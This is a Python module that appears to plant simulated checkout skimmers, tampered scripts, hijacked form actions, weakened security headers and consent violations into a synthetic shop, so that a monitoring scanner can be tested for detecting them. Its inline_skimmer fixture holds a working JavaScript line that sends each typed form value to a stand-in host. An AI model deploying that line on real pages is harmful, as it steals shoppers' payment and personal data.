"""What is planted into a shop: one event of every critical and high class, each with the sign by which a told change is known to tell of it."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass, replace

from benchmarks.noise.page import PageMade, digest_of
from benchmarks.noise.shop import Change, Shop
from scans import snapshot as form

Pages = dict[str, PageMade]
PATIENCE, LONG_PATIENCE = 2, 30
MALICIOUS = "assets-metrics.example"


@dataclass(frozen=True)
class Planted:
    """`signs` are words of which one occurs in a told change's key, name, or facts when it tells of this. `change` is applied to each load from `day` on.

    `patience` is how many days later it may be told at the latest: what is served in half of the loads only has luck to be seen by.
    """

    name: str
    day: int
    change: Change
    signs: tuple[str, ...]
    patience: int = PATIENCE


def skimmer(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    return lambda pages, chance: pages["checkout"].script("https://jquery-stat.example/q.js", body="steal all"), ("jquery-stat.example",)


def skimmer_in_half_of_the_loads(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        if chance.random() < 0.5:
            pages["checkout"].script("https://now-and-then.example/q.js", body="steal some")

    return change, ("now-and-then.example",)


def skimmer_of_many_names(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    """Another domain and another body in each load."""

    def change(pages: Pages, chance: random.Random) -> None:
        pages["checkout"].script(f"https://many-names-{chance.randrange(10**9)}.example/q.js", body=str(chance.random()))

    return change, ("many-names-",)


def tampered_file_of_many_bodies(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    """A file whose address names its content, with another body in each load."""

    def change(pages: Pages, chance: random.Random) -> None:
        for page in pages.values():
            page.scripts[:] = [replace(one, sha256=digest_of(str(chance.random()))) if "/assets/theme." in one.url else one for one in page.scripts]

    return change, ("exact:https://www.",)


def inline_skimmer(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    text = 'document.forms[0].addEventListener("input", e => { new Image().src = "https://img-store.example/i.gif?d=" + btoa(e.target.value); });'
    return lambda pages, chance: pages["checkout"].inline(text), ("img-store.example",)


def known_party_skimmer(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    url = "https://cdn.jsdelivr.net/gh/someone/checkout-helper@main/x.js"
    return lambda pages, chance: pages["checkout"].script(url, body="steal by a known party"), ("checkout-helper",)


def swapped_pixel(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        for page in pages.values():
            page.tags[:] = [replace(tag, account_id="999888777666555") if tag.vendor == "Meta" else tag for tag in page.tags]
            page.scripts[:] = [replace(one, url=one.url.replace(shop.pixel, "999888777666555")) for one in page.scripts]
            page.requests[:] = [replace(one, url=one.url.replace(shop.pixel, "999888777666555")) for one in page.requests]

    return change, ("999888777666555",)


def tampered_file(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        for page in pages.values():
            page.scripts[:] = [replace(one, sha256=digest_of("tampered")) if "swiper" in one.url else one for one in page.scripts]

    return change, (digest_of("tampered"),)


def form_action(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        pages["checkout"].forms[:] = [replace(one, action="https://pay-secure.example/take") for one in pages["checkout"].forms]

    return change, ("pay-secure.example",)


def card_frame(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        page = pages["checkout"]
        page.frames[:] = [form.Frame(url="https://stripe-card.example/v3/inner.html", parent=page.url, party="third")]

    return change, ("stripe-card.example", "frame:stripe.com")


def no_policy_of_content(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        pages["checkout"].headers.pop("content-security-policy", None)

    return change, ("content-security-policy",)


def weaker_hsts(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        for page in pages.values():
            page.headers["strict-transport-security"] = "max-age=300"

    return change, ("strict-transport-security",)


def new_tracker(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        manager = f"https://www.googletagmanager.com/gtm.js?id={shop.container}"
        for name in ("home", "product"):
            pages[name].script("https://static.hotjar.com/c/hotjar-1234567.js?sv=6", body="hotjar", by=(manager,))

    return change, ("hotjar.com", "Hotjar")


def tracking_cookie(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        for page in pages.values():
            page.cookie("_fbp", days=90, by="https://connect.facebook.net/en_US/fbevents.js")

    return change, ("_fbp",)


def banner_gone(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        for page in pages.values():
            page.cmp, page.banner = "", None

    return change, ("cmp", "banner")


def granted(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        for page in pages.values():
            page.defaults = dict.fromkeys(page.defaults, "granted")

    return change, ("default:",)


def tracks_after_reject(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        pages["rejected"].request("https://www.facebook.com/tr?id=1&ev=PageView")
        pages["rejected"].cookie("_fbp", by="https://connect.facebook.net/en_US/fbevents.js")

    return change, ("state:rejected:",)


def policy_edited(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    def change(pages: Pages, chance: random.Random) -> None:
        page = pages["privacy"]
        page.policy = page.policy.replace("Stripe", "Stripe and Klaviyo, Inc.").replace("12 months", "10 years")

    return change, ("/privacy",)


def malicious_host(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    return lambda pages, chance: pages["home"].request(f"https://{MALICIOUS}/p.gif"), (MALICIOUS,)


def cookie_moved(shop: Shop) -> tuple[Change, tuple[str, ...]]:
    return lambda pages, chance: pages["home"].cookie("shop_session", domain="id-graph.example", days=400), ("id-graph.example",)


PLANTS: dict[str, Callable[[Shop], tuple[Change, tuple[str, ...]]]] = {
    plant.__name__: plant
    for plant in (
        skimmer,
        skimmer_in_half_of_the_loads,
        skimmer_of_many_names,
        tampered_file_of_many_bodies,
        inline_skimmer,
        known_party_skimmer,
        swapped_pixel,
        tampered_file,
        form_action,
        card_frame,
        no_policy_of_content,
        weaker_hsts,
        new_tracker,
        tracking_cookie,
        banner_gone,
        granted,
        tracks_after_reject,
        policy_edited,
        malicious_host,
        cookie_moved,
    )
}


SELDOM = frozenset({"skimmer_in_half_of_the_loads"})


def drawn(shop: Shop, *, days: int, count: int, number: int) -> list[Planted]:
    """`count` events for a shop, at least five days apart. Over a seed's shops they go through all of `PLANTS`."""
    chance = random.Random(f"{shop.seed}/{shop.number}/plan")
    names = list(PLANTS)
    chosen = [names[(number * count + offset) % len(names)] for offset in range(count)]
    chosen.sort(key=lambda name: name not in SELDOM)  # what may take long is planted first
    step = (days - 12) // count
    events = []
    for index, name in enumerate(chosen):
        change, signs = PLANTS[name](shop)
        day, patience = 8 + index * step + chance.randrange(max(1, step - 5)), LONG_PATIENCE if name in SELDOM else PATIENCE
        events.append(Planted(name, day, change, signs, patience))
    return events
